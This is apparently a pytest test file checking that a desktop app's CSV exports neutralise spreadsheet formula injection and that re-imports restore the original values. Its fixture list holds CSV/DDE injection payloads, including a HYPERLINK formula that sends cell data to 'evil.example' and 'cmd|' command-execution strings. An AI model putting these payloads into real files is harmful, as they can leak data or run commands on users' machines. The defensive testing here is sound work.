"""CSV exports never hand a spreadsheet a live formula (OWASP "CSV injection").

A cell starting with ``=``, ``+``, ``-``, ``@``, tab or carriage return gets a
leading apostrophe, except plain signed numbers and phone numbers; our own
participants/acteurs export re-imports to the very same values.
"""

from __future__ import annotations

import csv
from pathlib import Path
from types import SimpleNamespace

import pytest

from lieuxcommuns_desktop.core import csv_io, csv_safe, matrix_export
from lieuxcommuns_desktop.core import model as m
from lieuxcommuns_desktop.core.enums import MatrixVersion
from lieuxcommuns_desktop.core.services import commons, matrices, records

HOSTILE = [
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"clic\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "+A1",
    "-A1",
    "'=déjà neutralisé",
]
NUMBERS = ["-3", "+33 6 12 34 56 78", "-0,5", "+1.5", "-12 000", "+33 (0)6 12/34-56"]


def _cells(path: Path) -> list[str]:
    text = path.read_bytes().decode("utf-8-sig")
    return [cell for row in csv.reader(text.splitlines(), delimiter=";") for cell in row]


def _dangerous(cell: str) -> bool:
    return cell.startswith(csv_safe.TRIGGERS) and cell not in NUMBERS


@pytest.mark.parametrize("value", HOSTILE)
def test_formula_like_cells_get_an_apostrophe(value: str) -> None:
    safe = csv_safe.neutralise(value)
    if value.startswith(csv_safe.TRIGGERS):
        assert safe == "'" + value
    assert csv_safe.restore(safe) == value


@pytest.mark.parametrize("value", [*NUMBERS, "Durand", "", "12", "a=b", "O'Neil"])
def test_numbers_and_ordinary_text_stay_as_typed(value: str) -> None:
    assert csv_safe.neutralise(value) == value
    assert csv_safe.restore(value) == value


def test_participants_export_is_inert_and_reimports_the_same_values(tmp_path: Path) -> None:
    acteur = SimpleNamespace(id="a", name="=cmd|' /C calc'!A0", category="associations")
    rows = [SimpleNamespace(last_name=value, first_name=f"@prénom {i}", acteur_id="a",
                            structure="", email="", phone=phone, role="-role")
            for i, (value, phone) in enumerate(zip(HOSTILE, [*NUMBERS, *NUMBERS], strict=False))]
    headers, data = csv_io.participant_table(rows, {"a": acteur})
    path = tmp_path / "participants.csv"
    csv_io.write_csv(path, headers, data)
    assert not [c for c in _cells(path) if _dangerous(c)]
    table = csv_io.read_csv(path)
    plan = csv_io.plan_import(table, csv_io.guess_mapping(table.headers, "participants"),
                              "participants")
    assert plan.ok, (plan.problems, [e.message for e in plan.errors])
    # the reader strips surrounding blanks, as for any imported file
    assert [p["last_name"] for p in plan.participants] == [v.strip() for v in HOSTILE]
    assert [p["phone"] for p in plan.participants] == NUMBERS + NUMBERS[:4]
    assert [p["first_name"] for p in plan.participants] == [f"@prénom {i}" for i in range(10)]
    assert {p["role"] for p in plan.participants} == {"-role"}
    assert plan.acteurs[0]["name"] == "=cmd|' /C calc'!A0"


def test_acteurs_export_is_inert(tmp_path: Path) -> None:
    acteurs = [SimpleNamespace(name=v, category="autres", description="+desc") for v in HOSTILE]
    headers, data = csv_io.acteur_table(acteurs)
    path = tmp_path / "acteurs.csv"
    csv_io.write_csv(path, headers, data)
    assert not [c for c in _cells(path) if _dangerous(c)]
    table = csv_io.read_csv(path)
    plan = csv_io.plan_import(table, csv_io.guess_mapping(table.headers, "acteurs"), "acteurs")
    names = list(dict.fromkeys(v.strip() for v in HOSTILE))  # tab and CR variants: one name
    assert [a["name"] for a in plan.acteurs] == names
    assert {a["description"] for a in plan.acteurs} == {"+desc"}


def test_matrix_csvs_are_inert(notebook, tmp_path: Path) -> None:
    atelier = records.create(notebook, m.Atelier, title="Atelier")
    names = ["=cmd|' /C calc'!A0", "@SUM(A1)", "+A1", "-3"]
    ids = [records.create(notebook, m.Acteur, name=n).id for n in names]
    matrices.set_columns(notebook, atelier.id, "roles", ids)
    matrices.set_columns(notebook, atelier.id, "decisions", ids)
    matrices.add_row(notebook, atelier.id, "roles", "=HYPERLINK(\"x\")")
    matrices.add_row(notebook, atelier.id, "decisions", "@SUM(1)")
    commons.set_principle(notebook, atelier.id, 1, note="=1+1")
    written = matrix_export.export_atelier_matrices(notebook, atelier.id, tmp_path / "csv")
    cells = [c for path in written for c in _cells(path)]
    assert "'=cmd|' /C calc'!A0" in cells and "'=HYPERLINK(\"x\")" in cells
    assert "-3" in cells and "'=1+1" in cells
    assert not [c for c in cells if _dangerous(c)]
    one = matrix_export.export_matrix(
        matrices.read_matrix(notebook, atelier.id, "decisions", MatrixVersion.CIBLE),
        tmp_path / "un.csv")
    assert "'@SUM(1)" in _cells(one) and "'+A1" in _cells(one)
